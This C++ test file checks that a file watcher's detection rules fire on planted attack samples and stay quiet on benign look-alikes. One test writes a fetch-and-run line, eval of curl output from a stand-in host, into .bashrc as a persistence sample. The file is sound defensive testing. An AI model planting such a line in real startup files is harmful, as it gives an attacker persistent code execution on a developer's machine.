// Every rule of the bundled pack against real files, through the real twwatch: each case plants one
// sample (an attack, or a benign look-alike) where it would land in a developer's tree, in a folder of
// its own. The cases live in tests/data/rules/cases/*.tsv.

#include "ScanRunner.h"

#include <algorithm>
#include <fstream>
#include <gtest/gtest.h>
#include <map>
#include <set>
#include <sstream>

namespace fs = std::filesystem;
using namespace tw::test;

namespace {

// One line of a case table (written by tests/data/rules/make_samples.py): a sample, where it lands in a
// developer's tree with which mode, and which rule should or should not fire on it.
struct RuleCase
{
    std::string name;
    bool fires = false;
    std::string rule;
    std::string severity;
    fs::perms mode{};
    std::string sample; // under tests/data/rules/samples/
    std::string destination;
    std::set<std::string> alsoAllowed;
    // Non-zero: the sample's first line is repeated until the planted file has this many bytes, then
    // the rest follows; large samples are grown at test time instead of being committed.
    std::uintmax_t growTo = 0;
};

std::vector<std::string> split(const std::string& s, char separator)
{
    std::vector<std::string> out;
    std::istringstream in(s);
    for (std::string item; std::getline(in, item, separator);)
        out.push_back(item);
    return out;
}

// "1200k" or "2M"; 0 for "-". Anything else throws, which fails the test.
std::uintmax_t parseSize(const std::string& s)
{
    return s == "-" ? 0 : std::stoull(s) << (s.back() == 'M' ? 20 : 10);
}

// The rows of all case tables; a malformed row fails the test that reads it.
std::vector<RuleCase> ruleCases()
{
    std::vector<fs::path> tables;
    for (const auto& e : fs::directory_iterator(testDataDir() / "rules" / "cases"))
        if (e.path().extension() == ".tsv")
            tables.push_back(e.path());
    std::vector<RuleCase> cases;
    for (const auto& table : tables) {
        std::ifstream in(table);
        for (std::string line; std::getline(in, line);) {
            const std::vector<std::string> f = split(line, '\t');
            if (f.size() != 9) {
                ADD_FAILURE() << "malformed case row in " << table.filename() << ": " << line;
                continue;
            }
            const auto also = f[7] == "-" ? std::vector<std::string>{} : split(f[7], ',');
            cases.push_back({f[0], f[1] == "fires", f[2], f[3],
                             static_cast<fs::perms>(std::stoi(f[4], nullptr, 8)), f[5], f[6],
                             std::set<std::string>(also.begin(), also.end()), parseSize(f[8])});
        }
    }
    return cases;
}

// Copies the case's sample to `target` with the case's mode.
void plantSample(const RuleCase& c, const fs::path& target)
{
    const auto source = testDataDir() / "rules" / "samples" / c.sample;
    if (c.growTo == 0) {
        fs::copy_file(source, target);
    } else {
        std::ifstream in(source, std::ios::binary);
        std::string first;
        std::getline(in, first);
        first += '\n';
        std::ofstream out(target, std::ios::binary);
        for (std::uintmax_t written = 0; written < c.growTo; written += first.size())
            out << first;
        out << in.rdbuf();
    }
    fs::permissions(target, c.mode);
}

// "path rule (severity)" for each finding, the harness's match-everything lines left out.
std::set<std::string> findings(const std::vector<WatchLine>& events)
{
    std::set<std::string> out;
    for (const auto& e : events)
        if (e.rule != matchEverything)
            out.insert(e.path + " " + e.rule + " (" + e.severity + ")");
    return out;
}

// The entries of `from` that `without` lacks, one per line.
std::string lines(const std::set<std::string>& from, const std::set<std::string>& without)
{
    std::string s;
    for (const auto& f : from)
        if (!without.count(f))
            s += "  " + f + "\n";
    return s;
}

// One audit must find on each case exactly its rule at its severity, or nothing of it on a look-alike,
// and never a rule twice on one file. The live watcher compiles the whole pack into one set and keeps a
// match only inside its own file's scope, where an audit compiles a set per scope: it must find the same.
TEST(RulesPack, EachCaseFiresOnlyWhereItShouldInAnAuditAndLive)
{
    const std::vector<RuleCase> cases = ruleCases();
    TempDir tree;
    TempDir staging;
    // The pack's conditions check paths themselves; this file's rules rely on its scope alone.
    WatcherSetup setup;
    setup.rules.emplace_back("scoped.yar", "// twwatch-scope: package.json */.git/hooks/*\n"
                                           "rule user_scoped { meta: severity = \"high\" condition: true }\n"
                                           "rule user_scoped_refused { condition: true }\n");
    // The folders are there before the watcher starts, and each sample arrives whole by a rename, so
    // the watcher never evaluates a half-copied file.
    for (const auto& c : cases)
        fs::create_directories((tree / c.name / c.destination).parent_path());
    Watcher watcher(setup);
    useConfigHome(watcher.configHome()); // the audit below reads the same rules
    watcher.send({tree.path()});
    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
    for (const auto& c : cases) {
        plantSample(c, staging / c.name);
        fs::rename(staging / c.name, tree / c.name / c.destination);
    }

    const ScanResult audit = runTwwatch({"--scan", tree.path().string()});
    ASSERT_EQ(audit.process.exitCode, 0) << audit.process.err;
    ASSERT_TRUE(audit.allLinesDecoded) << audit.process.out;
    std::map<std::string, std::vector<WatchLine>> byCase;
    for (const auto& e : audit.events) {
        EXPECT_TRUE(e.types.empty()) << "an audit reports no change words";
        if (e.rule != matchEverything && e.rule != "user_scoped")
            byCase[fs::path(e.path).lexically_relative(tree.path()).begin()->string()].push_back(e);
    }
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        const std::string found = lines(findings(byCase[c.name]), {});
        bool expectedSeen = false;
        std::set<std::string> rules;
        for (const auto& e : byCase[c.name]) {
            EXPECT_EQ(e.path, (tree / c.name / c.destination).string());
            EXPECT_TRUE(rules.insert(e.rule).second) << found;
            if (e.rule == c.rule) {
                EXPECT_TRUE(c.fires) << c.rule << " fired on a benign look-alike:\n" << found;
                EXPECT_EQ(e.severity, c.severity) << found;
                expectedSeen = true;
            } else {
                EXPECT_TRUE(c.alsoAllowed.count(e.rule)) << "unexpected rule " << e.rule << ":\n" << found;
            }
        }
        if (c.fires)
            EXPECT_TRUE(expectedSeen) << c.rule << " did not fire on " << c.destination << ":\n" << found;
    }
    const std::set<std::string> expected = findings(audit.events);
    ASSERT_TRUE(std::any_of(expected.begin(), expected.end(),
                            [](auto& f) { return f.ends_with("package.json user_scoped (high)"); }));

    waitUntil([&] { return lines(expected, findings(watcher.lines())).empty(); }, std::chrono::seconds(40));
    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log(); // a late extra finding would be in by now
    const std::set<std::string> live = findings(watcher.lines());
    EXPECT_EQ(lines(expected, live), "") << "found by the audit only";
    EXPECT_EQ(lines(live, expected), "") << "found by the watcher only";
}

// Every rule the pack loads has at least one attack that fires it and one look-alike that does not (a
// case naming a rule the pack lacks fails above).
TEST(RulesPack, EveryRuleHasAnAttackAndALookAlike)
{
    const std::vector<RuleCase> cases = ruleCases();
    TempDir config;
    useConfigHome(config.path());
    const ScanResult r = runTwwatch({"--check-rules"});
    ASSERT_EQ(r.process.exitCode, 0) << r.process.err;
    std::set<std::string> loaded;
    std::istringstream out(r.process.out);
    for (std::string line; std::getline(out, line);)
        if (line.rfind("  ", 0) == 0)
            loaded.insert(line.substr(2));
    ASSERT_GE(loaded.size(), 40u) << r.process.out;
    std::set<std::string> attacked, lookAlike;
    for (const auto& c : cases)
        (c.fires ? attacked : lookAlike).insert(c.rule);
    for (const auto& rule : loaded) {
        EXPECT_TRUE(attacked.count(rule)) << rule << " has no attack sample";
        EXPECT_TRUE(lookAlike.count(rule)) << rule << " has no benign look-alike";
    }
}

// A hook that gains the executable bit is reported; chmod 600 and touch are routine for keys and
// startup files, a change of their content is not.
TEST(RulesPack, ChangeWordsReachThePackLive)
{
    TempDir tree;
    Watcher watcher;
    watcher.send({tree.path()});
    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
    const auto count = [&](const fs::path& path, const char* rule) {
        return watcher.linesFor(path.string(), rule).size();
    };
    const auto waitFor = [&](const fs::path& path, const char* rule) {
        return watcher.waitForPaths({path.string()}, std::chrono::seconds(20), rule);
    };
    const fs::path hook = tree / ".git/hooks/pre-commit";
    const fs::path keys = tree / ".ssh/authorized_keys";
    const fs::path bashrc = tree / ".bashrc";
    fs::create_directories(hook.parent_path());
    fs::create_directories(keys.parent_path());
    writeFile(hook, "#!/bin/sh\nnpx lint-staged\n");
    writeFile(
        keys,
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wh/j3nVhPYQmmZ9ZqRv dev@laptop\n");
    writeFile(bashrc, "alias ll='ls -la'\n");
    ASSERT_TRUE(waitFor(keys, "ssh_authorized_key_added")) << watcher.log();
    ASSERT_TRUE(waitFor(bashrc, "shell_startup_file_changed")) << watcher.log();
    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
    const auto keysBefore = count(keys, "ssh_authorized_key_added");
    const auto bashrcBefore = count(bashrc, "shell_startup_file_changed");

    fs::permissions(hook, fs::perms::owner_exec, fs::perm_options::add);
    fs::permissions(keys, fs::perms::owner_read | fs::perms::owner_write);
    fs::permissions(bashrc, fs::perms::owner_read | fs::perms::owner_write | fs::perms::group_read);
    ASSERT_TRUE(waitFor(hook, "git_hook_added")) << watcher.log();
    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
    EXPECT_EQ(count(keys, "ssh_authorized_key_added"), keysBefore);
    EXPECT_EQ(count(bashrc, "shell_startup_file_changed"), bashrcBefore);

    writeFile(bashrc, "alias ll='ls -la'\neval \"$(curl -fsSL https://dots.example.sh/init)\"\n");
    EXPECT_TRUE(waitFor(bashrc, "shell_startup_runs_payload")) << watcher.log();
}

} // namespace
